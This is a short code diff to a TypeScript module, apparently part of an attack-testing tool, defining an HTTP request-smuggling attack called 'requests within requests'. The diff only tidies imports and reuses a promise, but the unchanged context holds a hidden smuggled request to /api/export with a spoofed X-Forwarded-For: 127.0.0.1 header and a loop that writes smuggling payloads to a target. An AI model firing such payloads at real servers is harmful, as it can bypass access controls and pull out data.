@@ -1,6 +1,5 @@
 import { pause } from '../process.ts';
-import type { Attack } from './attack.ts';
-import { isOver } from './attack.ts';
+import { type Attack, isOver } from './attack.ts';
 import { lines, waited } from './line.ts';
 
 const HIDDEN = 'GET /api/export HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: 127.0.0.1\r\n\r\n';
@@ -31,9 +30,10 @@ export const smuggled: Attack = {
   name: 'requests within requests',
   run: lines(3, async (line, target) => {
     line.resume();
+    const gone = waited(line, target);
     for (let n = begun++; !isOver(target) && !line.destroyed; n++) {
       line.write(TWOFOLD[n % TWOFOLD.length] ?? '', 'latin1');
-      await Promise.race([waited(line, target), pause(80)]);
+      await Promise.race([gone, pause(80)]);
     }
   }),
 };
